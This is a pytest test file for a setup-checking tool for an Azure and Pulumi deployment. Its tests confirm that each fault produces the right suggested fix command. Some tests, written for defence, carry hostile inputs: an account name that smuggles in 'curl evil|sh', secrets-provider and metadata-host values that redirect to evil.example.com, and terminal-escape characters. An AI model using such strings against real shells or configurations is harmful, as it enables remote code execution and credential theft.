"""One thing is wrong at a time: exactly its check fails, and names the command that mends it."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from automation.doctor import examine
from automation.doctor import machine as machine_checks
from automation.doctor.checks import CHECKS
from graph import evaluate_stack
from tests.automation.doctor import conftest as stand_in
from tests.automation.doctor.conftest import SUBSCRIPTION, TENANT, Machine


def test_all_is_well(machine: Machine) -> None:
    found = machine.checks()

    assert {one.id: one.outcome for one in found.values()} == dict.fromkeys([row.id for row in CHECKS], "ok")
    assert not any(one.mend for one in found.values())
    assert all(one.found and one.expected for one in found.values())


def test_a_check_comes_after_those_that_it_needs() -> None:
    ids = [row.id for row in CHECKS]

    assert all(ids.index(need) < ids.index(row.id) for row in CHECKS for need in row.needs)


def test_what_is_waited_for_is_told(machine: Machine) -> None:
    told: list[str] = []
    machine.checks(told.append)

    assert told[0] == "Running the program ..."
    assert len(told) == len(CHECKS) + 1


# This machine


def test_an_old_python(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(machine_checks, "OLDEST_PYTHON", (99, 1))

    assert machine.only("python", "failed").mend == "rm -rf .venv; make setup PYTHON=python3.13"


def test_a_package_that_is_not_as_pinned(machine: Machine) -> None:
    pins = (machine.program / "requirements.txt").read_text(encoding="utf-8")
    (machine.program / "requirements.txt").write_text(f"{pins}no-such-package==1.0  # pinned\n", encoding="utf-8")

    check = machine.only("packages", "failed")
    assert check.found == "no-such-package: not installed, expected 1.0"
    assert check.mend == "rm -f .venv/.ready; make setup"


def test_unusable_settings_carry_every_problem(machine: Machine) -> None:
    machine.settings |= {"release": "1999", "prefix": "NOT-A-PREFIX"}

    check = machine.only("settings", "failed")
    assert "2 problems in the settings of stack dev" in check.found
    assert "1999" in check.found
    assert check.mend.endswith("python -m automation check --stack dev")
    assert machine.checks()["azure-login"].outcome == "ok"


def test_a_program_that_cannot_be_run(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise ModuleNotFoundError("No module named 'cryptography'", name="cryptography")

    monkeypatch.setattr(evaluate_stack, "evaluate_stack", broken)

    check = machine.only("program", "failed")
    assert (check.found, check.mend) == ("package cryptography is missing", "rm -f .venv/.ready; make setup")
    assert machine.checks()["quota"].outcome == "ok"


@pytest.mark.parametrize(
    ("tool", "check", "outcome", "mend"),
    [
        ("pulumi", "pulumi-cli", "failed", "https://www.pulumi.com/docs/install"),
        ("az", "azure-cli", "failed", "learn.microsoft.com/cli/azure/install-azure-cli"),
        ("kubectl", "kubectl", "warning", "az aks install-cli"),
        ("mosquitto", "mosquitto", "warning", "make mosquitto"),
    ],
)
def test_a_tool_that_is_not_there(machine: Machine, tool: str, check: str, outcome: str, mend: str) -> None:
    machine.lacks(tool)

    assert mend in machine.only(check, outcome).mend


def test_without_any_tool_all_that_azure_knows_is_not_run(machine: Machine) -> None:
    for tool in stand_in.TOOLS:
        machine.lacks(tool)
    found = machine.checks()

    assert found["rights"].outcome == "not-run"
    assert found["rights"].found == "after Azure CLI"
    assert found["program"].outcome == "ok"


# Pulumi


def test_an_old_pulumi(machine: Machine) -> None:
    machine.says("pulumi version", "v3.100.0\n")

    check = machine.only("pulumi-cli", "failed")
    assert check.found == "version 3.100.0"
    assert "3.259.0 or newer" in check.expected


def test_a_pulumi_built_from_source_is_taken_as_it_is(machine: Machine) -> None:
    machine.says("pulumi version", "v3.260.0-dev+1b5949891b3c\n")

    assert machine.checks()["pulumi-cli"].outcome == "ok"


def test_nobody_logged_in_to_a_backend(machine: Machine) -> None:
    machine.fails(
        stand_in.WHOAMI, "error: PULUMI_ACCESS_TOKEN must be set for login during non-interactive CLI sessions\n", 3
    )

    assert machine.only("pulumi-login", "failed").mend.startswith("pulumi login ")


def test_no_key_of_a_backend_is_shown(machine: Machine) -> None:
    machine.says(stand_in.WHOAMI, {"user": "me", "url": "postgres://joe:hunter2@db.example.com/state?password=hunter2"})

    found = machine.checks()["pulumi-login"].found
    assert found == "me at postgres://db.example.com/state"


def test_a_stack_that_is_not_there(machine: Machine) -> None:
    machine.fails(stand_in.STACK, "error: no stack named 'dev' found\n", 6)

    mend = machine.only("pulumi-stack", "failed").mend
    assert mend.startswith('pulumi stack init dev --secrets-provider "azurekeyvault://')


def test_a_backend_that_cannot_be_reached(machine: Machine) -> None:
    machine.fails(stand_in.STACK, "error: could not list bucket: no such host\n")

    check = machine.only("pulumi-stack", "failed")
    assert "could not list bucket: no such host" in check.found
    assert check.mend == stand_in.STACK


@pytest.mark.parametrize(
    ("file", "found"), [({}, "the backend's own key"), ({"encryptionsalt": "v1:abc="}, "a passphrase")]
)
def test_a_state_that_no_key_vault_encrypts(machine: Machine, file: dict[str, str], found: str) -> None:
    machine.file = dict(file)

    check = machine.only("secrets-provider", "warning")
    assert check.found == found
    assert check.mend.startswith('pulumi stack change-secrets-provider --stack dev "azurekeyvault://')


@pytest.mark.parametrize(
    ("provider", "outcome"),
    [
        ("azurekeyvault://kv.vault.azure.net/keys/pulumi/0123456789abcdef0123456789abcdef", "ok"),
        ("awskms://alias/pulumi?region=eu-west-1", "warning"),
        ("gcpkms://projects/p/locations/l/keyRings/r/cryptoKeys/k", "warning"),
        ("hashivault://pulumi", "warning"),
        ("passphrase", "warning"),
        ("default", "warning"),
        ("passphrase://", "failed"),
        ("foo://x", "failed"),
        ("http://evil/", "failed"),
        ("azurekeyvault://evil.example.com/keys/pulumi", "failed"),
        ("azurekeyvault://kv.vault.azure.net.evil.example.com/keys/pulumi", "failed"),
        ("azurekeyvault://me@kv.vault.azure.net/keys/pulumi", "failed"),
        ("azurekeyvault://kv.vault.azure.net/secrets/pulumi", "failed"),
        ("azurekeyvault://kv.vault.azure.net/keys/pulumi;x", "failed"),
    ],
)
def test_only_a_key_vault_s_key_is_taken_for_one(machine: Machine, provider: str, outcome: str) -> None:
    machine.file = {"secretsprovider": provider}

    assert machine.checks()["secrets-provider"].outcome == outcome


# Azure CLI and login


def test_an_old_azure_cli(machine: Machine) -> None:
    machine.says(stand_in.VERSION, {**machine.answer(stand_in.VERSION), "azure-cli": "2.64.0"})

    assert machine.only("azure-cli", "failed").mend == "az upgrade"


def test_no_extension_for_the_arc_proxy(machine: Machine) -> None:
    machine.says(stand_in.VERSION, {**machine.answer(stand_in.VERSION), "extensions": {}})

    mend = machine.only("connectedk8s", "warning").mend
    assert mend.startswith("az extension add --name connectedk8s --version ")


def test_nobody_logged_in_in_azure(machine: Machine) -> None:
    machine.fails(stand_in.ACCOUNT, "ERROR: Please run 'az login' to setup account.\n")

    check = machine.only("azure-login", "failed")
    assert check.found == "Please run 'az login' to setup account."
    assert check.mend == f"az login --tenant {TENANT['tenant_id']}"


def test_a_login_that_has_expired(machine: Machine) -> None:
    machine.fails(stand_in.TOKEN, "ERROR: AADSTS70043: The refresh token has expired.\nTo re-authenticate: az login\n")

    assert "AADSTS70043" in machine.only("azure-login", "failed").found


def test_another_subscription_and_tenant(machine: Machine) -> None:
    other = "99999999-9999-4999-8999-999999999999"
    machine.says(stand_in.ACCOUNT, {**machine.answer(stand_in.ACCOUNT), "id": other, "tenantId": other, "name": "Lab"})

    check = machine.only("azure-subscription", "failed")
    assert check.mend == f"az login --tenant {TENANT['tenant_id']}\naz account set --subscription {SUBSCRIPTION}"
    assert f"subscription Lab ({other}); the settings have {SUBSCRIPTION}" in check.found


def test_a_disabled_subscription(machine: Machine) -> None:
    machine.says(stand_in.ACCOUNT, {**machine.answer(stand_in.ACCOUNT), "state": "Disabled"})

    assert "is Disabled" in machine.only("azure-subscription", "failed").found


def test_variables_that_name_another_subscription(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ARM_SUBSCRIPTION_ID", "99999999-9999-4999-8999-999999999999")

    assert machine.only("arm-variables", "warning").mend == f"export ARM_SUBSCRIPTION_ID={SUBSCRIPTION}"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("PULUMI_DEBUG_PROVIDERS", "azure-native:4000"),
        ("ARM_METADATA_HOSTNAME", "management.azure.com.evil.example.com"),
        ("ARM_ENVIRONMENT", "usgovernment"),
    ],
)
def test_variables_that_let_somebody_else_answer(
    machine: Machine, monkeypatch: pytest.MonkeyPatch, name: str, value: str
) -> None:
    monkeypatch.setenv(name, value)

    check = machine.only("arm-variables", "failed")
    assert check.mend == f"unset {name}"
    assert check.found.startswith(f"{name} is {value}")


def test_variables_that_name_the_public_cloud(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ARM_METADATA_HOSTNAME", "management.azure.com")
    monkeypatch.setenv("ARM_ENVIRONMENT", "Public")

    assert machine.checks()["arm-variables"].outcome == "ok"


def test_variables_that_are_half_a_credential(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ARM_CLIENT_SECRET", "hunter2")

    found = machine.checks()
    assert found["arm-variables"].outcome == "failed"
    assert found["arm-variables"].mend == "export ARM_CLIENT_ID=<application id>"
    assert "hunter2" not in str(found)


def test_rights_of_a_credential_that_az_is_not_logged_in_with(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ARM_USE_OIDC", "true")
    monkeypatch.setenv("ARM_CLIENT_ID", "dddddddd-eeee-4fff-8000-111111111111")

    check = machine.only("rights", "warning")
    assert (
        check.found == "these are the rights of engineer@example.com; azure-native takes OpenID Connect (ARM_USE_OIDC)"
    )
    assert "azure-native takes OpenID Connect" in machine.checks()["arm-variables"].found


def test_rights_of_the_same_service_principal(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    client = "dddddddd-eeee-4fff-8000-111111111111"
    monkeypatch.setenv("ARM_USE_OIDC", "true")
    monkeypatch.setenv("ARM_CLIENT_ID", client)
    user = {"name": client, "type": "servicePrincipal"}
    machine.says(stand_in.ACCOUNT, {**machine.answer(stand_in.ACCOUNT), "user": user})

    found = machine.checks()
    assert found["rights"].outcome == "ok"
    assert found["azure-login"].found == f"service principal {client}"


# The tenant


def test_the_tenant_s_values_are_shown_as_far_as_they_are_known(machine: Machine) -> None:
    machine.settings = {key: value for key, value in machine.settings.items() if key not in TENANT}
    keys = Path.home() / ".ssh"
    keys.mkdir()
    (keys / "id_ed25519.pub").write_text(TENANT["ssh_public_key"] + "\n", encoding="utf-8")

    found = machine.checks()
    check = found["tenant-values"]
    assert check.outcome == "failed"
    assert check.mend.splitlines() == [
        "# in Pulumi.dev.yaml, below edge-stamps:settings:",
        f"    subscription_id: {SUBSCRIPTION}",
        f"    tenant_id: {TENANT['tenant_id']}",
        f"    custom_locations_object_id: {TENANT['custom_locations_object_id']}",
        '    admin_group_object_id:  # az ad group show --group "<name>" --query id -o tsv',
        f"    ssh_public_key: {TENANT['ssh_public_key']}",
    ]
    assert {one.id for one in found.values() if one.outcome != "ok"} == {
        "tenant-values", "custom-locations", "admin-group",
    }  # fmt: skip
    assert found["custom-locations"].outcome == "not-run"


def test_of_two_keys_none_is_proposed(machine: Machine) -> None:
    del machine.settings["ssh_public_key"]
    keys = Path.home() / ".ssh"
    keys.mkdir()
    for name in ("one.pub", "two.pub"):
        (keys / name).write_text(TENANT["ssh_public_key"], encoding="utf-8")

    assert machine.only("tenant-values", "failed").mend.endswith("    ssh_public_key:  # cat ~/.ssh/id_ed25519.pub")


def test_an_object_id_of_another_tenant(machine: Machine) -> None:
    machine.says(stand_in.CUSTOM_LOCATIONS, "12121212-cccc-4ddd-8eee-ffffffffffff\n")

    check = machine.only("custom-locations", "failed")
    assert "custom_locations_object_id: 12121212-cccc-4ddd-8eee-ffffffffffff" in check.mend


def test_a_directory_that_may_not_be_read(machine: Machine) -> None:
    machine.fails(stand_in.CUSTOM_LOCATIONS, "ERROR: Insufficient privileges to complete the operation.\n")

    check = machine.only("custom-locations", "warning")
    assert check.mend.endswith(stand_in.CUSTOM_LOCATIONS)


def test_a_group_that_does_not_exist(machine: Machine) -> None:
    error = (
        f"ERROR: Resource '{TENANT['admin_group_object_id']}' does not exist or one of its queried reference-property"
    )
    machine.fails(stand_in.ADMIN_GROUP, f"{error} objects are not present.\n", 3)

    assert machine.only("admin-group", "failed").mend.startswith("az ad group show --group")


def test_an_operator_group_that_does_not_exist(machine: Machine) -> None:
    assert machine.checks()["operator-group"].found == "none in the settings"
    group = machine.settings["operator_group_object_id"] = "dddddddd-eeee-4fff-8000-111111111111"
    question = stand_in.ADMIN_GROUP.replace(TENANT["admin_group_object_id"], group)
    machine.fails(question, f"ERROR: Resource '{group}' does not exist or one of its queried reference-property\n", 3)
    assert machine.only("operator-group", "failed").mend.startswith("az ad group show --group")
    machine.says(question, "Operators\n")
    assert machine.checks()["operator-group"].found == "group Operators"


# The subscription


def test_a_contributor_lacks_the_writes_of_authorization(machine: Machine) -> None:
    contributor = machine.answer(stand_in.PERMISSIONS)["value"][0]
    machine.says(stand_in.PERMISSIONS, {"value": [contributor]})

    check = machine.only("rights", "failed")
    assert check.found == (
        "engineer@example.com may not: Microsoft.Authorization/roleAssignments/{delete,write},"
        " Microsoft.Authorization/roleDefinitions/{delete,write}"
    )
    create = f"az role assignment create --assignee engineer@example.com --scope /subscriptions/{SUBSCRIPTION}"
    assert check.mend.splitlines()[1:] == [
        f"{create} --role 'User Access Administrator'",
        "# narrower: a custom role of the actions found missing (az role definition create)",
    ]


def test_a_reader_lacks_both_roles(machine: Machine) -> None:
    machine.says(stand_in.PERMISSIONS, {"value": [{"actions": ["*/read"], "notActions": []}]})

    check = machine.only("rights", "failed")
    assert "Microsoft.Network/virtualNetworks/subnets/join/action" in check.found
    assert [shlex.split(line)[-1] for line in check.mend.splitlines()[1:3]] == [
        "Contributor",
        "User Access Administrator",
    ]


def test_a_name_gives_no_orders_to_the_shell_that_a_mend_is_pasted_into(machine: Machine) -> None:
    machine.says(stand_in.PERMISSIONS, {"value": []})
    user = {"name": 'x"; curl evil|sh; "\ncurl evil', "type": "user"}
    machine.says(stand_in.ACCOUNT, {**machine.answer(stand_in.ACCOUNT), "user": user})

    for line in machine.only("rights", "failed").mend.splitlines():
        words = shlex.split(line, comments=True)
        assert not words or words[4:6] == ["--assignee", 'x"; curl evil|sh; " curl evil']


def test_what_azure_says_stays_on_its_line(machine: Machine) -> None:
    machine.says(stand_in.ACCOUNT, {**machine.answer(stand_in.ACCOUNT), "name": "Lab\nOK\x1b[2K\u202e"})

    assert machine.checks()["azure-subscription"].found.startswith("Lab OK [2K  (")


def test_vault_secrets_need_not_be_deleted(machine: Machine) -> None:
    permissions = machine.answer(stand_in.PERMISSIONS)
    permissions["value"][0]["notActions"].append("Microsoft.KeyVault/vaults/secrets/delete")
    machine.says(stand_in.PERMISSIONS, permissions)

    assert machine.checks()["rights"].outcome == "ok"


def test_a_right_under_a_condition(machine: Machine) -> None:
    permissions = machine.answer(stand_in.PERMISSIONS)
    permissions["value"][1] |= {"condition": "((!(ActionMatches{...})))", "conditionVersion": "2.0"}
    machine.says(stand_in.PERMISSIONS, permissions)

    check = machine.only("rights", "warning")
    assert "may only under a condition: Microsoft.Authorization/roleAssignments/{delete,write}" in check.found


def test_providers_that_are_not_registered(machine: Machine) -> None:
    page = machine.answer(stand_in.PROVIDERS)
    for one in page["value"]:
        if one["namespace"] in ("Microsoft.IoTOperations", "Microsoft.Kubernetes"):
            one["registrationState"] = "NotRegistered"
    machine.says(stand_in.PROVIDERS, page)

    assert machine.only("resource-providers", "failed").mend.splitlines() == [
        "az provider register --namespace Microsoft.IoTOperations --wait",
        "az provider register --namespace Microsoft.Kubernetes --wait",
    ]


def test_a_region_without_iot_operations(machine: Machine) -> None:
    page = machine.answer(stand_in.PROVIDERS)
    _type(page, "Microsoft.IoTOperations", "instances")["locations"] = ["West Europe", "Sweden Central"]
    machine.says(stand_in.PROVIDERS, page)

    check = machine.only("regions", "failed")
    assert check.found == "Microsoft.IoTOperations/instances is not offered in eastus2"
    assert check.mend == "location: westeurope  # in Pulumi.dev.yaml; all types are offered in: westeurope"


def test_an_api_version_that_is_not_offered(machine: Machine) -> None:
    page = machine.answer(stand_in.PROVIDERS)
    for one in next(one for one in page["value"] if one["namespace"] == "Microsoft.IoTOperations")["resourceTypes"]:
        one["apiVersions"].remove("2026-07-01")
    machine.says(stand_in.PROVIDERS, page)

    check = machine.only("api-versions", "failed")
    assert "Microsoft.IoTOperations/instances/brokers is not offered in API version 2026-07-01" in check.found
    assert check.mend.startswith('release: "2606"  # in Pulumi.dev.yaml')


def test_an_api_version_that_no_release_decides(machine: Machine) -> None:
    page = machine.answer(stand_in.PROVIDERS)
    _type(page, "Microsoft.KeyVault", "vaults/secrets")["apiVersions"] = ["2019-09-01"]
    machine.says(stand_in.PROVIDERS, page)

    assert machine.only("api-versions", "failed").mend.startswith("az provider show --namespace Microsoft.KeyVault")


def _type(page: dict[str, list[dict[str, object]]], namespace: str, name: str) -> dict[str, object]:
    provider = next(one for one in page["value"] if one["namespace"] == namespace)
    types = provider["resourceTypes"]
    assert isinstance(types, list)
    return next(one for one in types if one["resourceType"] == name)


def test_a_size_that_the_subscription_may_not_use(machine: Machine) -> None:
    machine.settings |= {"clusters": {"site": {"node": {"vm_size": "Standard_E8s_v6"}}, "enterprise": {}}}

    check = machine.only("vm-size", "failed")
    assert check.found == "site: Standard_E8s_v6 may not be used (NotAvailableForSubscription) in eastus2"
    assert check.mend.startswith("vm_size: Standard_D16s_v6  # in Pulumi.dev.yaml, clusters.site.node")


def test_no_smaller_size_is_proposed(machine: Machine) -> None:
    skus = machine.answer(stand_in.SKUS)
    refused = next(sku for sku in skus if sku["name"] == "Standard_E8s_v6")["restrictions"]
    next(sku for sku in skus if sku["name"] == "Standard_D8s_v6")["restrictions"] = refused
    machine.says(stand_in.SKUS, skus)

    mend = machine.only("vm-size", "failed").mend.splitlines()[0]
    assert mend.endswith("offered: Standard_D8s_v5, Standard_D16s_v6")


def test_a_zone_without_the_size(machine: Machine) -> None:
    machine.settings |= {"clusters": {"site": {"node": {"zone": "2"}}, "enterprise": {}}}
    skus = machine.answer(stand_in.SKUS)
    for sku in skus:
        if sku["name"] == "Standard_D8s_v6":
            refused = {"locations": ["eastus2"], "zones": ["2"]}
            sku["restrictions"] = [
                {"type": "Zone", "values": ["eastus2"], "reasonCode": "NotAvailableForSubscription",
                    "restrictionInfo": refused},
            ]  # fmt: skip
    machine.says(stand_in.SKUS, skus)

    check = machine.only("vm-size", "failed")
    assert check.found == "site: Standard_D8s_v6 is not offered in eastus2, zone 2"
    assert check.mend.startswith('zone: "1"  # in Pulumi.dev.yaml, clusters.site.node')


_FEATURE = (
    f"az feature show --subscription {SUBSCRIPTION} --namespace Microsoft.Compute --name EncryptionAtHost"
    " --query properties.state --output tsv"
)


def _asks_for_encryption(machine: Machine) -> None:
    machine.settings |= {"clusters": {"site": {"node": {"encryption_at_host": True}}, "enterprise": {}}}


def test_encryption_at_host_that_the_subscription_and_the_size_have(machine: Machine) -> None:
    assert machine.checks()["encryption-at-host"].found == "no node asks for it"
    _asks_for_encryption(machine)
    machine.says(_FEATURE, "Registered\n")
    assert machine.checks()["encryption-at-host"].found == "registered; site"


def test_encryption_at_host_that_nobody_has_registered(machine: Machine) -> None:
    _asks_for_encryption(machine)
    machine.says(_FEATURE, "NotRegistered\n")
    check = machine.only("encryption-at-host", "failed")
    assert check.found == "Microsoft.Compute/EncryptionAtHost: NotRegistered"
    assert check.mend.splitlines()[0] == (
        f"az feature register --subscription {SUBSCRIPTION} --namespace Microsoft.Compute --name EncryptionAtHost"
    )


def test_encryption_at_host_that_the_size_does_not_have(machine: Machine) -> None:
    _asks_for_encryption(machine)
    machine.says(_FEATURE, "Registered\n")
    skus = machine.answer(stand_in.SKUS)
    for sku in skus:
        sku["capabilities"] = [one for one in sku["capabilities"] if one["name"] != "EncryptionAtHostSupported"]
    machine.says(stand_in.SKUS, skus)
    check = machine.only("encryption-at-host", "failed")
    assert check.found == "site: Standard_D8s_v6 has none in eastus2"
    assert check.mend.startswith("encryption_at_host: false  # in Pulumi.dev.yaml, clusters.site.node")


def test_a_quota_that_has_room_for_one_cluster_only(machine: Machine) -> None:
    machine.says(stand_in.USAGE, _usage(machine, "StandardDsv6Family", used=0, limit=10))

    check = machine.only("quota", "failed")
    assert check.found == "Standard Dsv6 Family vCPUs in eastus2: 16 needed, 0 of 10 in use"
    scope = f"/subscriptions/{SUBSCRIPTION}/providers/Microsoft.Compute/locations/eastus2"
    assert check.mend.splitlines()[-1] == (
        f"az quota update --resource-name StandardDsv6Family --scope {scope} --limit-object value=16"
        " --resource-type dedicated"
    )


def test_nodes_that_are_there_need_no_quota(machine: Machine) -> None:
    machine.says(stand_in.USAGE, _usage(machine, "StandardDsv6Family", used=8, limit=16))
    _has_group(machine)
    machine.says(stand_in.STATE, {"version": 3, "deployment": {"resources": [{}, {}]}})

    assert "8 needed, 8 of 16 in use" in machine.checks()["quota"].found


def test_a_quota_that_nobody_lists(machine: Machine) -> None:
    usage = machine.answer(stand_in.USAGE)
    machine.says(stand_in.USAGE, [one for one in usage if one["name"]["value"] != "StandardDsv6Family"])

    check = machine.only("quota", "warning")
    assert check.found == "StandardDsv6Family in eastus2: 16 needed, no such quota is listed"
    assert check.mend == stand_in.USAGE.removesuffix(" --output json") + " --output table"


def _usage(machine: Machine, family: str, *, used: int, limit: int) -> object:
    usage = machine.answer(stand_in.USAGE)
    entry = next(one for one in usage if one["name"]["value"] == family)
    entry |= {"currentValue": str(used), "limit": str(limit)}
    return usage


@pytest.mark.parametrize(
    ("protected", "mend"),
    [
        (None, "az keyvault purge --name kv-myorga-dev-001 --location eastus2"),
        (True, 'instance: "<another one>"  # in Pulumi.dev.yaml: part of every name'),
    ],
)
def test_a_deleted_vault_of_our_name(machine: Machine, protected: bool | None, mend: str) -> None:
    vaults = machine.answer(stand_in.DELETED)
    properties = {**vaults[0]["properties"], "purgeProtectionEnabled": protected}
    machine.says(stand_in.DELETED, [*vaults, {**vaults[0], "name": "kv-myorga-dev-001", "properties": properties}])

    check = machine.only("deleted-vaults", "failed")
    assert check.mend == mend
    assert ("until 2026-11-27" in check.found) is bool(protected)


@pytest.mark.parametrize("tags", [None, {"edge-stamps-stack": "other-dev-001"}])
def test_a_resource_group_of_our_name_that_is_somebody_else_s(machine: Machine, tags: dict[str, str] | None) -> None:
    groups = machine.answer(stand_in.GROUPS)
    machine.says(stand_in.GROUPS, [*groups, {**groups[0], "name": "RG-myorgb-dev-001", "tags": tags}])

    check = machine.only("resource-groups", "failed")
    assert check.found.startswith("rg-myorgb-dev-001 exists and is ")
    assert "instance" in check.mend and "prefix" in check.mend


@pytest.mark.parametrize("deployment", [{"manifest": {}}, {"resources": []}])
def test_groups_of_this_stack_that_its_state_does_not_know(machine: Machine, deployment: dict[str, object]) -> None:
    _has_group(machine)
    machine.says(stand_in.STATE, {"version": 3, "deployment": deployment})

    check = machine.only("state", "failed")
    assert "its state is empty: another backend? rg-myorga-dev-001" in check.found
    assert check.mend.splitlines()[1:] == ["pulumi whoami --verbose"]


def test_groups_of_this_stack_that_its_state_knows(machine: Machine) -> None:
    _has_group(machine)
    machine.says(stand_in.STATE, {"version": 3, "deployment": {"resources": [{}, {}]}})

    assert machine.checks()["state"].found == "2 resources, of 1 resource groups"


def _has_group(machine: Machine) -> None:
    groups = machine.answer(stand_in.GROUPS)
    tags = {"edge-stamps-stack": "myorg-dev-001"}
    machine.says(stand_in.GROUPS, [*groups, {**groups[0], "name": "rg-myorga-dev-001", "tags": tags}])


def test_a_question_that_azure_does_not_answer_fails_with_its_reason(machine: Machine) -> None:
    machine.fails(
        stand_in.DELETED, "ERROR: (AuthorizationFailed) The client 'x' does not have authorization\nCode: ...\n"
    )

    check = machine.only("deleted-vaults", "failed")
    assert "(AuthorizationFailed) The client 'x' does not have authorization" in check.found
    assert check.mend == stand_in.DELETED


def test_an_answer_of_another_form_stops_nothing(machine: Machine) -> None:
    machine.says(stand_in.GROUPS, {"value": []})

    found = machine.checks()
    assert {one.id for one in found.values() if one.outcome == "failed"} == {"quota", "resource-groups", "state"}
    assert "not understood" in found["resource-groups"].found


def test_an_example_is_not_for_azure(machine: Machine) -> None:
    examples = machine.program / "examples"
    examples.mkdir()
    machine.checks()
    (machine.program / "Pulumi.dev.yaml").rename(examples / "Pulumi.dev.yaml")

    found = {one.id: one for one in examine(machine.program, "dev")}
    assert found["settings"].mend == "cp examples/Pulumi.dev.yaml ."


def test_further_nodes_need_quota_too(machine: Machine) -> None:
    machine.settings = {**machine.settings, "clusters": {"site": {"nodes": [{"name": "two"}]}, "enterprise": {}}}
    machine.says(stand_in.USAGE, _usage(machine, "StandardDsv6Family", used=0, limit=10))
    assert "24 needed, 0 of 10 in use" in machine.only("quota", "failed").found
